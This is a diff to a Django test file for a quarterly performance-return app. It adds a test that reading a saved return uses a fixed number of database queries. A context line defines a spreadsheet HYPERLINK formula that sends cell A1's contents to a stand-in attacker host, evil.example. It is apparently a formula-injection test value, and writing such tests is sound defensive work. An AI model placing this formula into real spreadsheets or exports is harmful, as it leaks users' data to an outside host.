@@ -45,6 +45,7 @@ NO_DATA = "Data not available to assess progress"
 # The pack's rating against target, and the template's words it must give: the test states the
 # rule itself rather than asking the code under test.
 WORDS_FOR_RATING = {"green": ON_TRACK, "amber": NOT_ON_TRACK, "red": NOT_ON_TRACK, None: NO_DATA}
+QUERIES = 31  # the pack's metrics (with its headlines) and finance, the conditions, the timetable, the return
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
 
 
@@ -471,3 +472,31 @@ def test_the_form_keeps_what_was_typed_and_asks_for_the_reason(analyst, area, lo
     )
     assert unknown.status_code == 400
     assert "“not_a_metric” is not a national metric of the return" in unknown.content.decode()
+
+
+def test_reading_the_return_takes_as_many_queries_however_much_is_written(demo):
+    from django.db import connection
+    from django.test.utils import CaptureQueriesContext
+
+    with CaptureQueriesContext(connection) as empty:
+        quarterly_return(area=demo, quarter=Q2)
+    analyst = demo.members.get(username="analyst")
+    quarterly_return_save(
+        area=demo,
+        quarter=Q2,
+        entries=[
+            ReturnMetricEntry(
+                code=row.metric.code,
+                assessment=Assessment.NO_DATA.value,
+                reason="Figures under review.",
+                challenges="Winter.",
+            )
+            for row in quarterly_return(area=demo, quarter=Q2).metrics
+        ],
+        user=analyst,
+    )
+    with CaptureQueriesContext(connection) as written:
+        data = quarterly_return(area=demo, quarter=Q2)
+    assert {row.assessment for row in data.metrics} == {Assessment.NO_DATA}
+    # One more: the metrics written; none per metric.
+    assert len(written) == len(empty) + 1 <= QUERIES
